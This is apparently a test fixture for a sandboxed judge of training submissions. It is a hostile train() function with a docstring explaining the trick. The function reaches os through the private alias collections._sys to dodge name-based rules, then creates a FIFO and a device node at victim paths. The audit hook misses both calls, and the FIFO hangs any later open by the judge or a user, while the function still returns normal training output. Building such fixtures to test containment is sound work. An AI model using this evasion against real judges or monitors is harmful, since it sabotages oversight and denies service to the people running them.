"""EXPLOIT: `os.mkfifo` and `os.mknod` raise no audit event, and `os` is reached through a
standard-library module's private alias (`collections._sys.modules`), which no
attribute-name rule spells. A FIFO planted where the judge or a user later opens a file
blocks that open forever. The two target paths are in `victim.txt` beside this file (the
test writes it).
Caught by: the static scan (`collections._sys` is the module sys, whatever it is called);
the audit hook sees neither call, so without the scan the kernel holds: under namespaces
or Landlock both paths are outside everything the run may create."""

import collections

from baseline.train import train as reference_train


def train(cfg, init, tokens, batches):
    fifo, node = open(__file__.rsplit("/", 1)[0] + "/victim.txt").read().split()
    native_os = collections._sys.modules["o" + "s"]
    for make, path in ((native_os.mkfifo, fifo), (native_os.mknod, node)):
        try:
            make(path)
            print(f"MADE {path}", flush=True)
        except OSError as e:
            print(f"MAKE FAILED {type(e).__name__}: {e}", flush=True)
    return reference_train(cfg, init, tokens, batches)
